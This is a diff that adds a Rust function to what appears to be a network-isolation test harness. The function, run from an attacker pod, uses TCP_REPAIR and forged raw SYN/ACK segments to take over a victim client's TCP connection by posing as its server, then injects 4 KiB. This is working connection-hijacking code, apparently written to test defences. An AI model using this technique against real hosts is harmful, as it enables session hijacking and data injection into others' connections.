@@ -303,3 +303,89 @@ pub fn forge_handshake(connect: SocketAddr, bind: SocketAddr, st: &Steps<'_>) ->
         json!({"received": received, "isn": client_isn, "server_isn": server_isn, "user_namespace": user_namespace}),
     )
 }
+
+/// pose-server, client only (the attacker, in a pod of its own, root there): the victim
+/// client's connection (`connect`, its end) taken over as its server, from this pod's
+/// own address (`bind`). The socket's initial sequence number is preset to the victim
+/// server's (`TCP_REPAIR` on the unconnected socket), it connects to the victim client's
+/// end (the test drops what it sends there), and a SYN crafted as the victim client's
+/// (its initial sequence number) crosses its own: a simultaneous open, which the
+/// kernel completes on the ACK crafted next, reaching `PASSIVE_ESTABLISHED` without a
+/// listener. Mark, write 4 KiB (were it paired with the victim, they would land in the
+/// victim's ingress queue), then read until the wait file exists.
+pub fn pose_server(connect: SocketAddr, bind: SocketAddr, st: &Steps<'_>) -> Result<Value> {
+    let (SocketAddr::V4(victim), SocketAddr::V4(me)) = (connect, bind) else {
+        bail!("pose-server is IPv4 only: {connect} from {bind}");
+    };
+    let go = st.go.context("pose-server needs --go-file")?;
+    let stop = st.wait.context("pose-server needs --wait-file")?;
+    wait_file(go)?;
+    let text = std::fs::read_to_string(go).context("read the sequence numbers")?;
+    let mut it = text.split_whitespace().map(str::parse::<u32>);
+    let (Some(Ok(snd)), Some(Ok(rcv))) = (it.next(), it.next()) else {
+        bail!("bad sequence numbers {text:?}");
+    };
+    let (client_isn, server_isn) = (snd.wrapping_sub(1), rcv.wrapping_sub(1));
+
+    let s = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
+    set(&s, Repair, &1)?;
+    set(&s, RepairQueue, &TCP_SEND_QUEUE)?;
+    set(&s, QueueSeq, &server_isn)?;
+    set(&s, Repair, &REPAIR_OFF_NO_WP)?;
+    s.bind(&SockAddr::from(bind))
+        .with_context(|| format!("bind {bind}"))?;
+    s.set_nonblocking(true)?;
+    match s.connect(&SockAddr::from(connect)) {
+        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
+        Ok(()) => bail!("connected at once to {connect}: it should be unreachable here"),
+        Err(e) => return Err(e).with_context(|| format!("connect {connect}")),
+    }
+    // The crossed SYN, then the ACK of the SYN-ACK the socket answers it with; both
+    // are delivered here in the order sent.
+    forger::send_raw(
+        &forger::segment(victim, me, client_isn, 0, forger::SYN),
+        *me.ip(),
+    )?;
+    forger::send_raw(
+        &forger::segment(victim, me, snd, rcv, forger::ACK),
+        *me.ip(),
+    )?;
+    let mut fds = [PollFd::new(s.as_fd(), PollFlags::POLLOUT)];
+    let ready = poll(&mut fds, PollTimeout::from(10_000u16)).context("poll")?;
+    ensure!(
+        ready == 1,
+        "the crafted handshake did not establish the socket"
+    );
+    if let Some(e) = s.take_error()? {
+        return Err(e).context("simultaneous open with the crafted segments");
+    }
+    if let Some(m) = st.mark {
+        std::fs::write(m, b"").with_context(|| format!("write {}", m.display()))?;
+    }
+    let mut s: TcpStream = s.into();
+    s.set_nonblocking(false)?;
+    s.write_all(&[0xAA; 4096]).context("write")?;
+    s.set_read_timeout(Some(Duration::from_millis(100)))?;
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let mut buf = vec![0u8; 64 * 1024];
+    let mut received = 0u64;
+    loop {
+        let stopping = stop.exists();
+        match s.read(&mut buf) {
+            Ok(0) => break,
+            Ok(n) => received += n as u64,
+            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {
+                if stopping {
+                    break;
+                }
+                ensure!(
+                    Instant::now() < deadline,
+                    "{} did not appear within 60 s",
+                    stop.display()
+                );
+            }
+            Err(e) => return Ok(json!({"received": received, "error": e.to_string()})),
+        }
+    }
+    Ok(json!({"received": received, "injected": 4096}))
+}
